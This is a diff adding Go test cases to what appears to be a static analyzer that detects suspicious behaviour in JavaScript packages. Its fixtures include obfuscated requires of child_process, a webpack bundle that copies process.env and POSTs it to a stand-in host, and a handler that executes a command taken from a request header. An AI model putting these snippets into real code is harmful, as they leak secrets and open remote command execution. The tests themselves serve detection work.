@@ -873,9 +873,46 @@ const r = host.require.bind(host); r("child_process").exec("id");`), DefaultLimi
 	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
 		t.Errorf("main module's require: imports %+v calls %+v", f.Imports, f.Calls)
 	}
+	f = Analyze("x.js", []byte(`const load = process.getBuiltinModule || ((id) => module.require(id)); load("https").request("https://c.example.invalid/")`), DefaultLimits())
+	if !hasImport(f, "https") || hasCall(f, "https.request") == nil {
+		t.Errorf("a require kept in a variable with a fallback: imports %+v calls %+v", f.Imports, f.Calls)
+	}
 	f = Analyze("x.js", []byte(`const host = options.host || module; host.require("child_process")`), DefaultLimits())
 	if hasImport(f, "child_process") {
 		t.Errorf("an object that may be another taken for the main module: %+v", f.Imports)
+	}
+}
+
+// A replacement whose expression ends in a lookahead, which Go's engine
+// lacks, folds with the lookahead's text left in place.
+func TestReplaceLookahead(t *testing.T) {
+	f := Analyze("x.js", []byte(`const x = "a-b-c".replace(/-(?=c)/g, "+"), y = "aXbXc".replace(/X(?=[bc])/g, "_");
+require(["node", "child", "process"].join(":").replace(/:(?=process)/, "_"))`), DefaultLimits())
+	if !hasString(f, "a-b+c") || !hasString(f, "a_b_c") || !hasImport(f, "child_process") {
+		t.Errorf("lookahead replacements: strings %+v imports %+v", f.Strings, f.Imports)
+	}
+}
+
+// Values followed across a bundle's module table and into functions:
+// webpack's externals are the modules they re-export, a function called
+// with process.env has the environment as that parameter, and a command
+// taken from an incoming request says so.
+func TestBundleEnvAndRequestFlows(t *testing.T) {
+	f := Analyze("x.js", []byte(`var __webpack_modules__ = ({ 687: ((module) => { module.exports = require("https"); }), 12: ((module, exports, __webpack_require__) => {
+  const https = __webpack_require__(687);
+  function build(env) { const out = {}; for (const k of Object.keys(env)) out[k] = env[k]; return out }
+  module.exports = { build, send: (b) => https.request("https://c.example.invalid/u", { method: "POST" }).end(JSON.stringify(b)) };
+}) });
+const ci = __webpack_require__(12); ci.send(ci.build(process.env));
+exports.h = (req) => require("child_process").exec(req.headers["x-cmd"]);`), DefaultLimits())
+	if hasCall(f, "https.request") == nil {
+		t.Errorf("webpack external not resolved: %+v", f.Calls)
+	}
+	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" }) {
+		t.Errorf("the environment read through a parameter: %+v", f.Env)
+	}
+	if c := hasCall(f, "child_process.exec"); c == nil || c.FromRequest != "req.headers" {
+		t.Errorf("command from a request: %+v", c)
 	}
 }
 
